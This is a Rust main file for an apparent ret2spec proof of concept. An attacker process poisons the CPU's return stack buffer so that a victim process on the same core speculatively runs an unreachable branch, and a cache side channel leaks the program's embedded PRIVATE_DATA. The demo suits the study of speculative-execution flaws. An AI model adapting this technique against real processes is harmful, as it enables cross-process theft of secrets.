// Ret2spec across two processes sharing one core.
//
// The attacker (child) calls returns_false recursively forever and yields the
// CPU at the bottom, leaving the return stack buffer full of return addresses
// into returns_false that the victim can never reach. The victim (parent)
// recurses through returns_true and flushes each frame before returning; its
// returns are predicted from the polluted buffer and speculatively run the
// unreachable branch that touches the oracle.
//
use std::io;
use std::process::ExitCode;

use rust_ret2spec::process::{current_pid, pin_to_core, run_attacker, split_roles, Getppid, ParentWatch, ProcessRole};
use rust_ret2spec::{init_tracing, leak_all, CacheSideChannel, Config, Engine, Poisoning, PRIVATE_DATA};

fn run() -> rust_ret2spec::Result<()>
{
    let config = Config::from_env()?;

    // death-checking of the victim from the attacker
    let victim_pid = current_pid();
    // pin before the fork, the child inherits the mask
    pin_to_core(config.core)?;

    let engine = Engine::new(config.recursion_depth, Poisoning::CoScheduled, PRIVATE_DATA);
    match split_roles()? {
        ProcessRole::Attacker => {
            let rounds = run_attacker(&engine, &ParentWatch::new(victim_pid, Getppid));
            tracing::debug!(rounds, "victim exited, attacker done");
        }
        ProcessRole::Victim { attacker } => {
            let mut stdout = io::stdout().lock();
            leak_all(&engine, CacheSideChannel::new, config.attempt_cap, &mut stdout)?;
            tracing::debug!(attacker, "secret leaked, attacker stops on its next parent poll");
        }
    }
    Ok(())
}

fn main() -> ExitCode
{
    init_tracing();
    match run() {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("\n{}", e);
            ExitCode::FAILURE
        }
    }
}
